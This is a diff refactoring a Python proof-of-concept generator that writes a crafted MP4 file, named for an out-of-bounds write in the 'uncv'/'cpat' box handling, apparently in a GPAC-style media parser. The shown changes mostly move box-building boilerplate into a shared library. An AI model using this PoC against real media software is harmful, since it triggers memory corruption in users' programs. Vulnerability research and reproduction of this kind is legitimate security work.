@@ -1,114 +1,20 @@
 #!/usr/bin/env python3
 import struct
+import sys
+from pathlib import Path
 
-def u8(x):  return struct.pack(">B", x & 0xFF)
-def u16(x): return struct.pack(">H", x & 0xFFFF)
-def u32(x): return struct.pack(">I", x & 0xFFFFFFFF)
-
-def fixed16_16(x_float: float) -> bytes:
-    return u32(int(x_float * (1 << 16)) & 0xFFFFFFFF)
-
-def box(typ: bytes, payload: bytes) -> bytes:
-    assert len(typ) == 4
-    return u32(8 + len(payload)) + typ + payload
-
-def fullbox(typ: bytes, version: int, flags24: int, payload: bytes) -> bytes:
-    vf = u8(version) + struct.pack(">I", flags24 & 0xFFFFFF)[1:]  # 1+3 bytes
-    return box(typ, vf + payload)
-
-def make_ftyp() -> bytes:
-    major = b"isom"
-    minor = u32(0)
-    brands = b"isom" + b"iso2" + b"mp41"
-    return box(b"ftyp", major + minor + brands)
-
-def make_mvhd(timescale=1000, duration=1000) -> bytes:
-    # version 0
-    payload = (
-        u32(0) +  # creation_time
-        u32(0) +  # modification_time
-        u32(timescale) +
-        u32(duration) +
-        fixed16_16(1.0) +     # rate
-        u16(0x0100) + u16(0)  # volume + reserved
-        + u32(0) + u32(0)     # reserved
-        + u32(0) + u32(0)
-    )
-    # unity matrix
-    payload += (
-        u32(0x00010000) + u32(0) + u32(0) +
-        u32(0) + u32(0x00010000) + u32(0) +
-        u32(0) + u32(0) + u32(0x40000000)
-    )
-    payload += b"\x00" * 24  # pre_defined
-    payload += u32(2)        # next_track_ID
-    return fullbox(b"mvhd", 0, 0, payload)
-
-def make_tkhd(track_id=1, duration=1000, width=1, height=1) -> bytes:
-    # flags: track enabled/in movie/in preview = 0x000007
-    flags = 0x000007
-    payload = (
-        u32(0) + u32(0) +     # creation/modification
-        u32(track_id) +
-        u32(0) +              # reserved
-        u32(duration) +
-        u32(0) + u32(0) +     # reserved
-        u16(0) + u16(0) +     # layer, alternate_group
-        u16(0) + u16(0)       # volume, reserved
-    )
-    # matrix
-    payload += (
-        u32(0x00010000) + u32(0) + u32(0) +
-        u32(0) + u32(0x00010000) + u32(0) +
-        u32(0) + u32(0) + u32(0x40000000)
-    )
-    payload += u32(width << 16) + u32(height << 16)
-    return fullbox(b"tkhd", 0, flags, payload)
-
-def make_mdhd(timescale=1000, duration=1000) -> bytes:
-    payload = (
-        u32(0) + u32(0) +
-        u32(timescale) +
-        u32(duration) +
-        u16(0x55c4) +  # 'und' language (packed), common placeholder
-        u16(0)
-    )
-    return fullbox(b"mdhd", 0, 0, payload)
-
-def make_hdlr(handler_type=b"vide", name=b"GPAC") -> bytes:
-    payload = (
-        u32(0) +              # pre_defined
-        handler_type +
-        u32(0) + u32(0) + u32(0) +  # reserved
-        name + b"\x00"
-    )
-    return fullbox(b"hdlr", 0, 0, payload)
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from poclib.isobmff import (
+    Box, ChunkOffsetBox, box, fullbox, make_dinf, make_ftyp, make_hdlr, make_mdhd,
+    make_mvhd, make_stsc, make_stsz, make_stts, make_tkhd, make_vmhd, u8, u16, u32,
+    write_boxes,
+)
 
-def make_vmhd() -> bytes:
-    # flags 0x000001 per spec
-    payload = u16(0) + u16(0) + u16(0) + u16(0)  # graphicsmode + opcolor
-    return fullbox(b"vmhd", 0, 0x000001, payload)
+# Boilerplate boxes come from the shared LRU cache; these are the exact
+# parameters this PoC was captured with.
+FTYP_BRANDS = (b"isom", b"iso2", b"mp41")
+MVHD_RESERVED_LEN = 16
 
-def make_dinf() -> bytes:
-    # dref with one url box (self-contained)
-    url  = fullbox(b"url ", 0, 0x000001, b"")
-    dref = fullbox(b"dref", 0, 0, u32(1) + url)
-    return box(b"dinf", dref)
-
-def make_stts() -> bytes:
-    # 1 sample, 1 delta
-    return fullbox(b"stts", 0, 0, u32(1) + u32(1) + u32(1))
-
-def make_stsc() -> bytes:
-    # one chunk, one sample per chunk, sample desc idx =1
-    return fullbox(b"stsc", 0, 0, u32(1) + u32(1) + u32(1) + u32(1))
-
-def make_stsz(sample_size: int) -> bytes:
-    # no default size, 1 entry
-    return fullbox(b"stsz", 0, 0, u32(0) + u32(1) + u32(sample_size))
-
-def make_stco(chunk_offset: int) -> bytes:
-    return fullbox(b"stco", 0, 0, u32(1) + u32(chunk_offset))
 
 def make_uncv_config_boxes() -> bytes:
     # --- cmpd ---
@@ -187,59 +93,38 @@ def make_stsd_uncv(width=1, height=1) -> bytes:
     stsd_payload = u32(1) + sample_entry  # entry_count=1
     return fullbox(b"stsd", 0, 0, stsd_payload)
 
-def make_minf_stbl(sample_size: int, chunk_offset_placeholder: int) -> bytes:
+def make_minf_stbl(sample_size: int, mdat: Box) -> Box:
     stsd = make_stsd_uncv(1, 1)
     stts = make_stts()
     stsc = make_stsc()
     stsz = make_stsz(sample_size)
-    stco = make_stco(chunk_offset_placeholder)  # patched later
-    stbl = box(b"stbl", stsd + stts + stsc + stsz + stco)
-    minf = box(b"minf", make_vmhd() + make_dinf() + stbl)
+    stco = ChunkOffsetBox(mdat)  # resolved to mdat's payload offset at write time
+    stbl = Box(b"stbl", stsd, stts, stsc, stsz, stco)
+    minf = Box(b"minf", make_vmhd(), make_dinf(), stbl)
     return minf
 
-def make_moov(sample_size: int, chunk_offset_placeholder: int) -> bytes:
-    mvhd = make_mvhd()
-    tkhd = make_tkhd()
-    mdhd = make_mdhd()
-    hdlr = make_hdlr()
-    minf = make_minf_stbl(sample_size, chunk_offset_placeholder)
-    mdia = box(b"mdia", mdhd + hdlr + minf)
-    trak = box(b"trak", tkhd + mdia)
-    return box(b"moov", mvhd + trak)
-
-def patch_stco(mp4: bytearray, real_chunk_offset: int) -> None:
-    # Find 'stco' box and patch its last u32 (the first and only chunk offset).
-    idx = mp4.find(b"stco")
-    if idx == -1:
-        raise RuntimeError("stco not found")
-    # stco structure: size(4) type(4) version/flags(4) entry_count(4) offset(4)
-    # 'stco' points to the type field; size is at idx-4
-    # offset field begins at: (idx - 4) + 8 + 4 + 4 = idx + 12
-    offset_pos = idx + 12
-    mp4[offset_pos:offset_pos+4] = u32(real_chunk_offset)
+def make_moov(sample_size: int, mdat: Box) -> Box:
+    mvhd = make_mvhd(timescale=1000, duration=1000, reserved_len=MVHD_RESERVED_LEN)
+    tkhd = make_tkhd(track_id=1, duration=1000, width=1, height=1)
+    mdhd = make_mdhd(timescale=1000, duration=1000)
+    hdlr = make_hdlr(b"vide", b"GPAC")
+    minf = make_minf_stbl(sample_size, mdat)
+    mdia = Box(b"mdia", mdhd, hdlr, minf)
+    trak = Box(b"trak", tkhd, mdia)
+    return Box(b"moov", mvhd, trak)
 
 def main(out_path="poc_uncv_cpat_oobwrite.mp4"):
     sample_data = b"\x00"  # one dummy sample byte
-    mdat = box(b"mdat", sample_data)
-
-    # build with placeholder stco first
-    ftyp = make_ftyp()
-    moov = make_moov(sample_size=len(sample_data), chunk_offset_placeholder=0)
-
-    mp4 = bytearray(ftyp + moov + mdat)
-
-    # real chunk offset = position of mdat payload start
-    # mdat header is 8 bytes, so payload starts at (ftyp+moov)+8
-    mdat_pos = len(ftyp) + len(moov)
-    real_chunk_offset = mdat_pos + 8
+    mdat = Box(b"mdat", sample_data)
 
-    patch_stco(mp4, real_chunk_offset)
+    ftyp = make_ftyp(b"isom", 0, FTYP_BRANDS)
+    moov = make_moov(sample_size=len(sample_data), mdat=mdat)
 
-    with open(out_path, "wb") as f:
-        f.write(mp4)
+    # single pass: layout gives mdat its offset, stco is filled while writing
+    size = write_boxes(out_path, ftyp, moov, mdat)
 
-    print(f"[+] wrote {out_path} ({len(mp4)} bytes)")
-    print(f"[+] mdat payload offset = {real_chunk_offset}")
+    print(f"[+] wrote {out_path} ({size} bytes)")
+    print(f"[+] mdat payload offset = {mdat.data_offset}")
 
 if __name__ == "__main__":
     main()